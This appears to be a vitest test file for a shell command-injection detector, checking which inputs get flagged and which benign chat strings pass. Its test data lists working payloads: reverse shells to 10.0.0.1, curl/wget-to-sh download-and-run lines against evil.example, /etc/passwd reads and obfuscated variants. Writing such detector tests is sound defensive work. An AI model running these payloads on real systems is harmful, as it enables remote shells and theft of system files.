import { describe, expect, it } from 'vitest'
import { detectCmd, FORM_PLUS, formPlus } from '../../src/detect/cmd/index.js'
import { KNOWN_WORDS, maybeCommand } from '../../src/detect/cmd/names.js'
import { tokenizeShell } from '../../src/detect/cmd/shell.js'
import { PREFIX, STRONG, STRONG_FAMILY, WEAK } from '../../src/detect/cmd/vocab.js'
import { BENIGN, p1, tagOf } from './helpers.js'

const ATTACKS = [
  ';id',
  '|id',
  '||whoami',
  '&& cat /etc/passwd',
  'a;id',
  '`id`',
  '$(whoami)',
  'x$(curl http://evil.example/s.sh|sh)',
  '; ls -la /',
  '| nc 10.0.0.1 4444 -e /bin/sh',
  '& ping -n 30 127.0.0.1 &',
  '; sleep 5',
  // a number or host right after the tool word, with or without words after it
  '; ping 127.0.0.1 and more',
  'ok; sleep 10 more minutes',
  'a; dig evil.example any',
  'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
  'curl http://evil.example/x.sh | sh',
  'cmd /c dir',
  'cmd.exe /c whoami',
  'powershell -enc SQBFAFgA',
  '| type C:\\Windows\\win.ini',
  'cat /etc/passwd',
  "c'a't /etc/passwd",
  'c\\at /etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
  ';${IFS}id',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
  ';cat${IFS}/etc/passwd',
  ';cat$IFS$9/etc/passwd',
  '{cat,/etc/passwd}',
  '/???/c?t /???/p??s??',
  '() { :;}; /bin/bash -c "id"',
  '<!--#exec cmd="/bin/cat /etc/passwd"-->',
  ';system("cat /etc/passwd")',
  '%0Aid',
  'netstat -an',
  'cu$@rl http://evil.example/s.sh|sh',
  '{n$u\\c$u,-nlvp,4444}',
  'ping -c 5 127.0.0.1',
  'a|/???/??t /???/p??s??',
  'x & FOR /F %G IN (c:\\x.txt) DO type %G',
  'if (%1)==(LTRS) CD C:\\WORD\\LTRS',
  'x;(ls|id)',
  'whoami;',
  'x;`id`',
  '(cat /etc/hosts)',
  // in the middle of a sentence
  "look at this: ti''me curl example.org lol",
  'look at this: /???/??t lol',
  'look at this: pi$()ng 127.0.0.1 lol',
  "look at this: w'h'oami lol",
  'look at this: ;+cat+/etc/passwd lol',
  'look at this: cat+/et*/*wd lol',
  'look at this: ifconfig; lol',
  "look at this: /usr/bin/perl -e 'print 1' lol",
  '| mail -s hi bob@example.com < /etc/passwd',
  // empty expansions before the command word make no word of their own
  ';$@ id',
  '| $u whoami',
  'ok && $x $y cat notes.txt',
  // the user's shell through its variable
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell payload, not a template
  '${SHELL} -c "id"',
  'x; $SHELL -c whoami',
]

const ENCODED = ['%3Bid', '%7Cwhoami', '&#59;id', '；ｉｄ', '\\u003bid', ';i\u200bd']

const CHAT = [
  'Tom & Jerry',
  'rock & roll; see you',
  '$100 | $200',
  'C#',
  'I bought a cat; it is cute',
  'we had more fun; sleep well',
  'R&D; sort of done',
  'the `ls` command lists files',
  'use `rm -rf` with care',
  'ping me later',
  // a number after English words is no argument of the tool word before them
  'see you; ping me at 5',
  'lunch; ping me around 12:30 ok',
  'done & wait for me until 6',
  // `wait` takes a job, not a duration: a number after it delays nothing
  "I'll be late; wait 5 min",
  'cat lovers unite!',
  'type the answer (one word)',
  "rock'n'roll: don't stop",
  'C++ and C+ are grades; A+ is better',
  'Note: perl -e is handy',
  'install it under /usr/lib/python3*/site-packages',
  '0 7 * * * echo "Linux is just a fad" | mail bob@example.com -s= "And remember..."',
  'print "yes" if /(ibm|apple|awk)/;',
  'For example, "if (0 == 1) quit" will cause bc to terminate.',
  'Return `0` if `v1 == v2`, or `1` if `v1` is greater',
  '* `.unwatch(path / paths)`: Stop watching files or directories.',
  'the standard date extension (type -1), using the smallest format',
  'Note that if this is used to log to a windows terminal (`cmd.exe` or',
  'powershell), it is needed to run `chcp 65001` in the terminal',
  '(`node benchmark/compile-mode.js` compares the two)',
  'set $SHELL to zsh; $HOME stays',
  'costs $5; $a lot more than that',
  'The differences from [`String.replace`](<(https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/String/replace)>):',
]

describe('cmd', () => {
  it.each(ATTACKS)('flags %s', (s) => {
    expect(tagOf(s)).toBe('ws-cmd-injection')
  })
  it.each(ENCODED)('flags encoded %s', (s) => {
    expect(tagOf(s)).toBe('ws-cmd-injection')
  })
  it.each([...BENIGN, ...CHAT])('leaves %s alone at paranoia 1', (s) => {
    expect(p1.first(s)).toBeNull()
  })
  it('knows a word of letters (and digits) as a command exactly when a strong, weak or prefix name or a tool family names it', () => {
    const words = new Set<string>()
    for (const w of [...STRONG, ...WEAK, ...PREFIX, ...CHAT.join(' ').split(/[^a-z]+/i)])
      for (const part of w.toLowerCase().split(/[^a-z]+/)) if (part !== '') words.add(part)
    for (const w of [
      'gcc',
      'gccx',
      'clang',
      'python',
      'pythonx',
      'perl',
      'php',
      'ruby',
      'ansible',
      'chef',
      'ssh',
      'nc',
    ])
      words.add(w)
    for (const w of words) {
      const known = STRONG.has(w) || WEAK.has(w) || PREFIX.has(w) || STRONG_FAMILY.test(w)
      expect(KNOWN_WORDS.has(w), w).toBe(known)
      expect(maybeCommand(w), w).toBe(known)
    }
    // letters and digits: nothing to undo, the family regex still reads them
    for (const w of ['python3', 'gcc12', 'php7', 'perl5', 'k123', 'x11', '7z', 'sha256sum', 'ls2']) {
      const known = STRONG.has(w) || WEAK.has(w) || PREFIX.has(w) || STRONG_FAMILY.test(w)
      expect(maybeCommand(w), w).toBe(known)
    }
    expect(maybeCommand('python3')).toBe(true)
    expect(maybeCommand('k123')).toBe(false)
    // the answers kept for the last words asked belong to those words, in any order of asking
    const asked = ['cat', "c'a't", 'hello', '{cat,x}', 'x', 'w"h"o', 'notacommand', 'cat']
    const expected = asked.map((w) => {
      maybeCommand('flush1')
      maybeCommand('flush2$x')
      return maybeCommand(w)
    })
    expect(expected).toEqual([true, true, false, true, false, true, false, true])
    for (let i = 0; i < 400; i++) {
      const k = (i * 7 + (i >> 3)) % asked.length
      expect(maybeCommand(asked[k]!), asked[k]).toBe(expected[k])
      if (i % 3 === 0)
        expect(maybeCommand(asked[(k + 1) % asked.length]!)).toBe(expected[(k + 1) % asked.length])
    }
  })
  it('reads a form-encoded `+` as FORM_PLUS does, at each `+` only', () => {
    let seed = 7
    const next = () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff
      return seed / 0x7fffffff
    }
    const alphabet = 'ab0+ ;|&`\'"/$-\t\u00a0.xZ'
    let plus = 0
    for (let i = 0; i < 50000; i++) {
      let s = ''
      for (let k = Math.floor(next() * 20); k > 0; k--) s += alphabet[Math.floor(next() * alphabet.length)]
      if (FORM_PLUS.test(s)) plus++
      expect(formPlus(s), s).toBe(FORM_PLUS.test(s))
    }
    for (const s of ['abcdefghijklm+x', 'abcdefghijkl+x', ' ab+c', 'a+c', 'x abcdefghijklm+x'])
      expect(formPlus(s), s).toBe(FORM_PLUS.test(s))
    expect(plus).toBeGreaterThan(1000)
  })
  it('finds an idiom in every reading of a text, whatever text came before', () => {
    for (let i = 0; i < 3; i++) {
      expect(p1.first('nothing to see here; move along')).toBeNull()
      expect(p1.first('x;curl+http://evil.example/s.sh+|+bash')?.rule).toBe('cmd-download-exec')
      expect(p1.first('my+note+is+here')).toBeNull()
      expect(p1.first('nc+10.0.0.1+4444+-e+/bin/sh')?.rule).toBe('cmd-reverse-shell')
      expect(p1.first('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')?.rule).toBe('cmd-reverse-shell')
    }
  })
  it('reads past a run of separators, blanks and quotes to the word after it', () => {
    for (const run of ["';".repeat(3000), ';|&'.repeat(2000), '; "\n'.repeat(1500), '&& | '.repeat(1500)]) {
      const cmd = (s: string) => p1.all(s).some((f) => f.tag === 'ws-cmd-injection')
      expect(cmd(`${run}id`), run.slice(0, 4)).toBe(true)
      expect(cmd(`ok${run}cat /etc/passwd`), run.slice(0, 4)).toBe(true)
      expect(cmd(`${run}cats are great`), run.slice(0, 4)).toBe(false)
    }
  })
  it('reads an unpaired bracket in a path as a character of it (it made a broken pattern that threw)', () => {
    expect(p1.first('run ; cat x[/a now')).toBeNull()
    expect(p1.first('cat top[/al/.source')).toBeNull()
    expect(p1.first('; ls /etc/pa[sswd')?.tag).toBe('ws-cmd-injection')
    expect(p1.first(';cat /[e]tc/pa[s]swd')?.rule).toBe('cmd-sensitive-file')
    expect(p1.first(';cat /etc/pass]wd[')?.tag).toBe('ws-cmd-injection')
  })
  it("finds cmd.exe's IF EXIST / ERRORLEVEL in plain words, alone or beside prose", () => {
    for (const s of [
      'IF EXIST data.xls Echo The file was found.',
      'IF        ERRORLEVEL 3 IF NOT ERRORLEVEL 4 ...',
      '(timeout after 5s) IF EXIST filename CMD',
      `${'we shipped the new build and the dashboard looks great '.repeat(8)}if not exist x.txt echo hi`,
    ])
      expect(p1.first(s)?.rule, s.slice(-40)).toBe('cmd-windows-if')
    for (const s of ['it exists if you look', 'the error level was high', 'if errorlevel is high, retry'])
      expect(p1.first(s), s).toBeNull()
  })
  it('keeps no word of a text once it is read (the token pool is reused)', () => {
    const tokens = tokenizeShell('warm up the pool')
    expect(detectCmd('ok; cat /tmp/secret-4711 | mail x@example.com', 1)?.rule).toBe('cmd-separator-command')
    expect(tokens.n).toBe(0)
    expect(tokens.toks.some((t) => t.v.includes('secret') || t.v.includes('mail'))).toBe(false)
    // and the pool still tokenizes as before
    const again = tokenizeShell('a; b | c')
    expect(again.toks.slice(0, again.n).map((t) => t.v)).toEqual(['a', ';', 'b', '|', 'c'])
  })
  it('reads a command line that starts with a blank, or whose words a tab separates, as a command line', () => {
    // (the line-rate pass asked for a second word with indexOf(' ') > 0: one leading space, or a
    // tab between the words, let a plain command line through)
    for (const s of [' ping 127.0.0.1', 'ping\t127.0.0.1', ' \tping 10.0.0.1', ' nslookup 10.0.0.1']) {
      expect(p1.first(s)?.tag, JSON.stringify(s)).toBe('ws-cmd-injection')
      expect(p1.first(JSON.stringify({ type: 'chat', text: s }))?.tag, JSON.stringify(s)).toBe(
        'ws-cmd-injection',
      )
    }
    for (const s of [' ping me later', ' cat lovers unite', '\tsee you at 5', ' whoami'])
      expect(p1.first(s), JSON.stringify(s)).toBeNull()
  })
  it('names the rule', () => {
    expect(p1.first(';id')?.rule).toBe('cmd-separator-command')
    expect(p1.first('$(id)')?.rule).toBe('cmd-substitution')
    expect(p1.first('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')?.rule).toBe('cmd-reverse-shell')
  })
  it('reads the word after each soft separator of a long run (the end of a word is found once per run)', () => {
    for (const run of [
      '${'.repeat(2000),
      '{{'.repeat(2000),
      'x{'.repeat(2000),
      '(('.repeat(1500),
      '`{'.repeat(1000),
    ]) {
      expect(p1.first(`${run} echo \`cat /etc/passwd\``)?.rule, run.slice(0, 4)).toBe('cmd-sensitive-file')
      expect(p1.first(`${run} : wget -O- http://x.io | sh`)?.rule, run.slice(0, 4)).toBe('cmd-download-exec')
      expect(p1.first(`${run} (curl http://x.io/a | bash)`)?.rule, run.slice(0, 4)).toBe('cmd-download-exec')
    }
  })
})

describe('cmd: a heart is chat, not a redirection', () => {
  it('leaves a command word before a heart alone', () => {
    for (const s of [
      'thanks for the help; more tomorrow <3',
      'great job team; more wins ahead <3',
      'ok; less is more <3',
      'id <3',
      'love you all; see you at 5 <333',
      'we did it; more soon!<3 🎉',
    ])
      expect(p1.first(s), s).toBeNull()
  })
  it('still reads a redirection that is no heart, and the command around a heart', () => {
    for (const s of [
      ';cat /etc/passwd <3',
      'sh <3; whoami',
      'whoami <3x',
      'more <3 > /var/www/x.php',
      'a <3 b; wget http://x.io/s | sh',
    ])
      expect(tagOf(s), s).toBe('ws-cmd-injection')
  })
})
